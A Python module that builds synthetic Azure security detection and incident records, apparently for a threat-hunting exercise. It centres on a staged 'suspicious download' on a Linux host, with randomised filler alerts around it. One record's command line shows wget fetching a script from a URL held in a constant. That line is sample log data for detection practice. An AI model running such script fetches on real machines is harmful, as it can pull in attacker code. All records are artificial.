"""SecurityDetection and SecurityIncident: what else is kept about alerts."""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

from .cast import DOWNLOAD, LINUX, MINUTE, OTHER_LINUX, SCRIPT_URL, SECOND, SUBSCRIPTION, WINDOWS, at, guid, upn
from .dice import Dice

if TYPE_CHECKING:
    from .tables import Row

SSH_RULE: Final = guid("rule", "ssh anomalous login")


def detections() -> list[Row]:
    """Rows of SecurityDetection."""
    story: Row = {
        **_detection(DOWNLOAD + 3 * MINUTE, LINUX.name, "Detected suspicious file download", "High"),
        "SubjectUserName": "dbadmin",
        "ProcessName": "/usr/bin/wget",
        "ParentProcess": "/bin/bash",
        "CommandLine": f"wget {SCRIPT_URL} -t 3 -T 5",
        "SuspiciousProcess": "/usr/bin/wget",
        "AssociatedResource": LINUX.resource,
    }
    dice = Dice("detections")
    titles = ("Failed login attempts", "Rarely seen service installed", "Script run from a temporary folder")
    computers = (WINDOWS.name, OTHER_LINUX.name, LINUX.name)
    others = [
        _detection(moment, dice.pick(computers), dice.pick(titles), dice.pick(("Low", "Informational", "Medium")))
        for moment in dice.moments(at("2019-01-28"), at("2019-02-16T12:00"), 60)
    ]
    return [story, *others]


def _detection(moment: int, computer: str, title: str, severity: str) -> Row:
    return {
        "TimeGenerated": moment,
        "Computer": computer,
        "Provider": "Azure Security Center",
        "AlertTitle": title,
        "AlertSeverity": severity,
        "OriginalSeverity": severity,
        "DetectionID": guid("detection", moment),
        "SubscriptionId": SUBSCRIPTION,
        "IsFirstParty": True,
        "ReportingSystem": "Azure",
    }


def incidents(alerts: list[Row]) -> list[Row]:
    """Incidents name their alerts by GUID only, so that a search for an address does not find them."""
    ids = [str(alert["SystemAlertId"]) for alert in alerts]
    story = _incident(1402, DOWNLOAD + 7 * MINUTE, f"Suspicious download on {LINUX.name.upper()}", "High", [ids[-1]])
    logins = _incident(1398, at("2019-02-17T02:31"), "SSH Anomalous Login ML", "Medium", ids[:-1])
    closed = {
        **story,
        "TimeGenerated": at("2019-02-19T09:12:44"),
        "LastModifiedTime": at("2019-02-19T09:12:44"),
        "ClosedTime": at("2019-02-19T09:12:44"),
        "Status": "Closed",
        "Classification": "TruePositive",
        "ClassificationReason": "SuspiciousActivity",
        "ModifiedBy": upn("megan"),
    }
    dice = Dice("incidents")
    moments = dice.moments(at("2019-01-28"), at("2019-02-16T20:00"), 24)
    titles = ("Sign-in from a new country", "Malware blocked on a workstation", "Unusual amount of mail sent")
    others = [
        _incident(1360 + n, moment, dice.pick(titles), dice.pick(("Low", "Medium")), [guid("old alert", n)])
        for n, moment in enumerate(moments)
    ]
    return [story, logins, closed, *others]


def _incident(number: int, created: int, title: str, severity: str, alerts: list[str]) -> Row:
    return {
        "TimeGenerated": created + 2 * SECOND,
        "IncidentName": guid("incident", number),
        "Title": title,
        "Severity": severity,
        "Status": "New",
        "Owner": {"objectId": None, "email": None, "assignedTo": None, "userPrincipalName": None},
        "ProviderName": "Azure Sentinel",
        "ProviderIncidentId": str(number),
        "FirstActivityTime": created - 5 * MINUTE,
        "LastActivityTime": created - MINUTE,
        "LastModifiedTime": created + SECOND,
        "CreatedTime": created + SECOND,
        "IncidentNumber": number,
        "RelatedAnalyticRuleIds": [SSH_RULE],
        "AlertIds": alerts,
        "BookmarkIds": [],
        "Comments": [],
        "Labels": [],
        "AdditionalData": {"alertsCount": len(alerts), "bookmarksCount": 0, "commentsCount": 0},
        "ModifiedBy": "Incident created from alert",
        "SourceSystem": "Azure",
    }
